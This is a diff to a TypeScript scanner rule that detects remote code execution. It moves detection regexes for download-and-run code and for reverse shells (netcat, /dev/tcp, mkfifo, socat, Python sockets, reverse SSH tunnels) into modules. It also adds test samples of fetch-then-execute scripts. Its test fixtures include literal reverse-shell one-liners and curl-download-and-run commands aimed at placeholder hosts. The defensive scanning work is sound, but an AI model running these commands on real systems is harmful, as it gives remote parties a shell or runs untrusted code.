@@ -11,6 +11,8 @@ import {
   negatedBefore,
 } from './shell-vocabulary.js';
 import { downloadedFiles, runsFile, wholeTextRuns } from './download-targets.js';
+import { CODE_DOWNLOAD_DETECTORS } from './s001-code-downloads.js';
+import { REVERSE_SHELL_DETECTORS } from './s001-reverse-shells.js';
 
 /**
  * `curl | bash` with nothing to download is the name of a practice ("never use `curl | bash`
@@ -161,66 +163,7 @@ export const s001RemoteCodeExecution: ScanRule = {
       requires:
         /\b(?:iex|invoke-expression)\b[\s(]{1,4}\$|\[scriptblock\]::create\s{0,4}\(\s{0,4}\$|(?<![.\w$])(?:exec|eval)\s{0,4}\(\s{0,4}\w{1,40}(?:\.(?:text|content|read\s{0,4}\(\s{0,4}\)|decode\s{0,4}\([^)]{0,20}\)))?\s{0,4}\)|\bsubprocess\.(?:Popen|run|call|check_output|check_call)\s{0,4}\(\s{0,4}\w{1,40}\s{0,4},[^)]{0,200}?\bshell\s{0,4}=\s{0,4}True|\bos\.(?:system|popen)\s{0,4}\(\s{0,4}\w{1,40}\s{0,4}\)/i,
     },
-    {
-      // Code that reads a response as text: with an eval in the same unit, the fetched text is what runs.
-      id: 'fetch-text-in-code',
-      keywords: [
-        'urlopen',
-        'requests.get',
-        'httpx.get',
-        'net::http',
-        'uri.open',
-        '^uri',
-        'httparty',
-        'faraday',
-        'restclient',
-        'fetch',
-        'http.get',
-        'https.get',
-        'axios.get',
-        'downloadstring',
-        'urlretrieve',
-      ],
-      evidenceOnly: true,
-      capabilities: ['download'],
-      reads: ['code'],
-      re: /\burlopen\s{0,4}\(|\b(?:requests|httpx)\.get\s{0,4}\(|\bNet::HTTP\.get\b|\bURI\.open\s{0,4}\(|\bURI\s{0,4}\([^)]{0,200}\)\.read\b|\bHTTParty\.get\b|\bFaraday\.get\b|\bRestClient\.get\b|\bfetch\s{0,4}\(|\bhttps?\.get\s{0,4}\(|\baxios\.get\s{0,4}\(|\.DownloadString\s{0,4}\(|\burlretrieve\s{0,4}\(/i,
-    },
-    {
-      // Code that runs a string it did not write (exec, eval, compile, Function and its async form, vm): with a fetch, remote code.
-      id: 'eval-in-code',
-      keywords: ['exec', 'eval', 'compile', 'function', 'vm.', 'invoke-expression', 'iex', '_compile', 'execfile'],
-      evidenceOnly: true,
-      capabilities: ['execute'],
-      reads: ['code'],
-      re: /(?<![.\w$])(?:exec|eval|execfile)\s{0,4}\(\s{0,4}(?!["'\x60])|\bcompile\s{0,4}\([^)]{0,200}["'](?:exec|eval)["']|\bnew\s{1,4}(?:Async|Generator|AsyncGenerator)?Function\s{0,4}\(|\bvm\.run\w{0,20}\s{0,4}\(|\b(?:instance_eval|class_eval|module_eval)\b|\bKernel\.eval\b|(?<![.\w$])eval\s{1,4}[a-z_]\w{0,40}\b(?!\s{0,4}[=(])|\bInvoke-Expression\b|\biex\b|\bmodule\._compile\b/i,
-      // A Function built only from string literals (`new Function('name', 'return …')`) runs what the file says, nothing fetched.
-      accept: (m, c) =>
-        !/^new\s{1,4}\w{0,20}Function\s{0,4}\(\s{0,4}(?:(["'])(?:(?!\1)[^\\\n]){0,400}\1\s{0,4},?\s{0,4}){1,8}\)/i.test(
-          c.text.slice(m.index, m.index + 2000),
-        ),
-    },
-    {
-      // Go through a client of its own (`c := &http.Client{…}; c.Get(url)`): a download as much as `http.Get`.
-      id: 'go-http-client',
-      keywords: ['http.client'],
-      evidenceOnly: true,
-      capabilities: ['download'],
-      reads: ['code'],
-      scope: 'unit',
-      re: /\bhttp\.Client\s{0,4}\{/,
-      requires: /\.(?:Get|Do)\s{0,4}\(/,
-    },
-    {
-      // A shell started to read its script from stdin (`exec.Command("sh", "-s")`, `["bash", "-s"]`): with a fetch, the download runs.
-      id: 'shell-script-from-stdin',
-      keywords: ['"sh"', "'sh'", '"bash"', "'bash'", '"zsh"', "'zsh'"],
-      evidenceOnly: true,
-      capabilities: ['execute'],
-      reads: ['code'],
-      // Or `-c` with a script held in a variable (`exec.Command("sh", "-c", script)`): whatever the program fetched or built.
-      re: /\b(?:exec\.Command(?:Context)?|subprocess\.(?:run|call|Popen|check_call|check_output)|spawn(?:Sync)?|execFile(?:Sync)?|Popen|Command::new)\s{0,4}\((?:\s{0,4}ctx\s{0,4},)?\s{0,4}\[?\s{0,4}["'](?:ba|z|da|k)?sh["']\s{0,4}[,)]\s{0,4}\[?\s{0,4}(?:["']-[a-z]{0,3}s[a-z]{0,3}["']|\.arg\s{0,4}\(\s{0,4}["']-s["']|["']-c["']\s{0,4},\s{0,4}(?:string\s{0,4}\(\s{0,4})?[a-zA-Z_]\w{0,40}\s{0,4}[,)\]])/,
-    },
+    ...CODE_DOWNLOAD_DETECTORS,
     {
       // pip or npm installing an archive from a host that is not a package registry or a code forge: its setup runs at once.
       id: 'package-from-url',
@@ -248,75 +191,7 @@ export const s001RemoteCodeExecution: ScanRule = {
       // Words, not a command: "never download with curl and pipe it to bash" is advice.
       accept: (m, c) => !negatedBefore(c.text, m.index),
     },
-    {
-      // `ssh -N -R 0:localhost:22 relay@host`: this machine's SSH port opened on someone else's server. A step that asks
-      // is a pairing session; kept running by a scheduler or a unit, it is a door.
-      id: 'reverse-ssh-tunnel',
-      keywords: ['ssh', 'autossh', '"-r"', "'-r'"],
-      // As a command line, or as an argument list (`["ssh", "-N", "-R", f"{NAME}:22:localhost:22", …]`).
-      re: /\b(?:auto)?ssh\b[^;&|\n]{0,200}?\s-[a-zA-Z]{0,6}R\s{0,4}["']?(?:[\w.*{}$-]{0,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]):22\b|["']-R["']\s{0,4},\s{0,4}f?["'](?:[\w.*{}$-]{0,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]):22\b/,
-      capabilities: ['reverse-shell'],
-      level: 'MEDIUM',
-      why: "Opens this machine's SSH port on a remote server (a reverse tunnel): whoever controls that server can log in here.",
-    },
-    {
-      id: 'reverse-shell-dev-tcp',
-      keywords: ['/dev/tcp/', '/dev/udp/'],
-      re: /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/i,
-      why: 'Opens a reverse shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-netcat',
-      keywords: ['^nc$', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
-      re: /\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^;&|]{0,100}?\s-[a-z]{0,4}[ec]\s{0,4}["']?(?:\/[\w/]{0,40}\/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell|pwsh|python[23]?)\b|\b(?:nc|ncat|netcat)\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}-[a-z]{0,3}l[a-z]{0,3}\b[^;&|]{0,80}\|\s{0,4}(?:\/bin\/)?(?:ba|z|da|k)?sh\b/i,
-      why: 'Opens a reverse shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-fifo',
-      keywords: ['mkfifo'],
-      re: /\bmkfifo\b[^#]{0,200}?\b(?:nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\b/i,
-      why: 'Opens a reverse shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-socat',
-      keywords: ['socat'],
-      re: /\bsocat\b[^;&|]{0,200}?\bexec:/i,
-      why: 'Opens a reverse shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-pty',
-      keywords: ['pty.spawn', 'os.dup2'],
-      re: /\bpty\.spawn\s{0,4}\(\s{0,4}["'](?:\/bin\/)?(?:ba|z)?sh\b|\bos\.dup2\s{0,4}\([^)]{0,60}fileno\s{0,4}\(\s{0,4}\)/,
-      why: 'Wires a network socket to a shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-socket',
-      keywords: ['socket.socket'],
-      scope: 'unit',
-      re: /\bsocket\.socket\s{0,4}\(/,
-      requires: /\bos\.dup2\b|\bpty\.spawn\b|subprocess\.(?:call|Popen|run)\s{0,4}\(\s{0,4}\[?\s{0,4}["'](?:\/bin\/)?(?:ba|z)?sh\b/,
-      why: 'Wires a network socket to a shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
-    {
-      id: 'reverse-shell-other',
-      keywords: ['fsockopen', 'tcpsocket', 'net.sockets.tcpclient'],
-      re: /\bfsockopen\s{0,4}\([^#]{0,300}?(?:\/bin\/(?:ba|z)?sh|cmd\.exe)|\bTCPSocket\.(?:new|open)\b[^#]{0,300}?(?:\/bin\/(?:ba|z)?sh|\bexec\b|\bspawn\b|IO\.popen)|\bnet\.sockets\.tcpclient\b[^#]{0,600}?\b(?:iex|invoke-expression|getstream)\b/i,
-      why: 'Wires a network socket to a shell: a remote party gets an interactive shell on this machine.',
-      capabilities: ['reverse-shell'],
-      level: 'HIGH',
-    },
+    ...REVERSE_SHELL_DETECTORS,
     {
       id: 'gatekeeper-bypass',
       keywords: ['xattr', 'spctl'],
@@ -345,6 +220,14 @@ export const s001RemoteCodeExecution: ScanRule = {
       'python -c "import urllib.request;exec(urllib.request.urlopen(\'https://x.example/p\').read())"',
       'curl -fsSLo /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh',
       { path: 'install.sh', text: 'curl -fsSL https://x.example/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon\n' },
+      {
+        path: 'scripts/patch.py',
+        text: 'import os, subprocess, sys, tempfile, urllib.request\ncode = urllib.request.urlopen(URL).read()\nfd, p = tempfile.mkstemp(suffix=".py")\nos.write(fd, code)\nsubprocess.run([sys.executable, p])\n',
+      },
+      {
+        path: 'scripts/preset.mjs',
+        text: 'const src = await (await fetch(url)).text();\nawait import("data:text/javascript;base64," + Buffer.from(src).toString("base64"));\n',
+      },
       'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1',
       'nc -e /bin/sh 198.51.100.4 4444',
       'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.4 4444 >/tmp/f',
